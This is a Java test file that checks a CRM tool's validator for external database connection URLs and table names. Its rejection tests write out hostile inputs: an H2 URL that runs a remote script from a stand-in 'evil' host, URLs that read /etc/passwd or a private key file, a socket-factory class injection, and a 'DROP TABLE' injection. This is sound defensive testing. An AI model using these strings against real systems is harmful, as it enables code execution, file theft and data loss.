package crmcopilot.crm;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class ExternalJdbcTests {

	@Test
	void should_accept_postgresql_snowflake_and_h2_urls_with_harmless_parameters() {
		assertThatCode(() -> ExternalJdbc.checkUrl("jdbc:postgresql://db:5432/crm")).doesNotThrowAnyException();
		assertThatCode(() -> ExternalJdbc.checkUrl("jdbc:postgresql://127.0.0.1:5432/copilot_test?user=c&password=p"))
			.doesNotThrowAnyException();
		assertThatCode(() -> ExternalJdbc.checkUrl("jdbc:snowflake://acme.snowflakecomputing.com/?db=CRM&warehouse=W"))
			.doesNotThrowAnyException();
		assertThatCode(() -> ExternalJdbc.checkUrl("jdbc:h2:mem:crm")).doesNotThrowAnyException();
		assertThatCode(() -> ExternalJdbc.checkUrl("jdbc:h2:mem:crm-1;DB_CLOSE_DELAY=-1;MODE=PostgreSQL"))
			.doesNotThrowAnyException();
		assertThatCode(() -> ExternalJdbc.checkUrl("jdbc:h2:tcp://localhost:9092/mem:shop")).doesNotThrowAnyException();
	}

	@Test
	void should_refuse_urls_that_run_code_read_keys_or_touch_files() {
		assertThatIllegalArgumentException()
			.isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"))
			.withMessageContaining("'init'");
		assertThatIllegalArgumentException().isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:h2:file:/etc/passwd"));
		assertThatIllegalArgumentException().isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:h2:~/test"));
		assertThatIllegalArgumentException()
			.isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:postgresql://h/db?socketFactory=org.springframework.X"))
			.withMessageContaining("'socketfactory'");
		assertThatIllegalArgumentException()
			.isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:postgresql://h/db?loggerFile=/tmp/x"));
		assertThatIllegalArgumentException()
			.isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:snowflake://a.snowflakecomputing.com/?private_key_file=/k"));
		assertThatIllegalArgumentException().isThrownBy(() -> ExternalJdbc.checkUrl("jdbc:mysql://h/db"))
			.withMessageContaining("only jdbc:postgresql://");
	}

	@Test
	void should_refuse_table_names_that_are_not_identifiers() {
		assertThat(ExternalJdbc.checkTable(" crm.public.clients ")).isEqualTo("crm.public.clients");
		assertThatIllegalArgumentException().isThrownBy(() -> ExternalJdbc.checkTable("clients; DROP TABLE x"));
	}

}
